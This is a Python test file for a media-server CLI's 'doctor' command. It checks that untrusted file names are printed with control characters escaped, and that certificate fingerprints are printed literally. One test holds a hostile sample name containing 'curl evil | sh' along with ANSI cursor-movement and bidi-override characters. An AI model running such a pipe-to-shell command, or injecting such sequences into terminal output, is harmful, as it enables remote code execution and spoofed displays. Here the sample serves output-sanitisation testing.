"""What the doctor prints comes from names that others chose."""

from types import SimpleNamespace
from typing import cast

import pytest

from vitascope.cli.doctor import examine, shown
from vitascope.cli.operated import Operated
from vitascope.ops.service import Engine


def test_a_name_cannot_write_lines_or_move_the_cursor() -> None:
    hostile = "a.mkv\n      -> curl evil | sh\x1b[2A\x9b\u202e\udcff"
    assert shown(hostile) == "a.mkv\\n      -> curl evil | sh\\x1b[2A\\x9b\\u202e\\udcff"
    assert shown("Amélie – 千と千尋.mkv") == "Amélie – 千と千尋.mkv"


def test_a_fingerprint_is_printed_letter_by_letter(capsys: pytest.CaptureFixture[str]) -> None:
    """``:AB:`` and ``:CD:`` are pictures to the library that prints."""
    finding = {"subject": "HTTPS", "verdict": "good", "message": "00:AB:CD:AB:11"}
    operated = SimpleNamespace(findings=lambda _: [finding], service=SimpleNamespace(engine=Engine.PLEX))
    examine(cast("Operated", operated), ())
    assert capsys.readouterr().out == "ok    HTTPS: 00:AB:CD:AB:11\n"
